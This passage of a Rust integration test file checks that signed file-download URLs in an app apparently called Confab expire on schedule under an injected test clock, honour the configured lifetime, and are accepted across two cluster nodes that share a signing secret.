        assert_eq!(code(&anon.download_signed(&s.url).await.unwrap_err()), (404, "not_found"));
        assert_eq!(anon.download_signed(&mine.url).await.unwrap().bytes, doc_bytes);

        // Still good at its last second; refused one second later (the injected clock).
        app.clock.advance(mine.expires_at - app.clock.now());
        assert!(anon.download_signed(&mine.url).await.is_ok());
        app.clock.advance(chrono::Duration::seconds(1));
        assert_eq!(code(&anon.download_signed(&mine.url).await.unwrap_err()), (403, "signature_expired"));
        assert_eq!(code(&anon.download_signed(p.thumbnail_url.as_deref().unwrap()).await.unwrap_err()), (403, "signature_expired"));
    }
}

#[cfg_attr(
    not(all(confab_mysql, confab_redis)),
    ignore = "set CONFAB_TEST_MYSQL_URL and CONFAB_TEST_REDIS_URL"
)]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn signed_url_lifetime_follows_config_and_nodes_agree() {
    let Some(backend) = Backend::cluster() else {
        return;
    };
    // One blob directory for both nodes (as S3 would be in a real cluster).
    let files = tempfile::tempdir().unwrap();
    let a = TestApp::spawn_with(backend, |c| {
        c.media.signed_url_ttl_secs = 30;
        c.blob.dir = files.path().to_path_buf();
    })
    .await;
    let b = a.spawn_peer().await;
    let alice = a.user("alice").await;
    let f = alice
        .client
        .upload(pdf(1000), "x.pdf", "application/pdf")
        .await
        .unwrap();
    let s = alice.client.file_url(f.id).await.unwrap();
    assert!((s.expires_at - a.clock.now()).num_seconds() <= 30);
    // Signed on node A, served by node B (same secret, same rules).
    b.client.download_signed(&s.url).await.unwrap();
    b.clock.advance(chrono::Duration::seconds(31));
    assert_eq!(
        code(&b.client.download_signed(&s.url).await.unwrap_err()),
        (403, "signature_expired")
    );
}
